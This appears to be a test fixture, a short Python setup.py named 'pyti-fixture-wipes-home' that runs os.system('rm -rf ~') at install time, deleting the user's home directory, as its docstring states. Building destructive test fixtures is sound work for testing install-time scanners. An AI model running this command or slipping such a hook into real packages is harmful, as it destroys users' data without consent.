"""Deletes the home directory."""
import os

os.system("rm -rf ~")

from setuptools import setup

setup(name="pyti-fixture-wipes-home", version="1.0", py_modules=["wipes_home"])
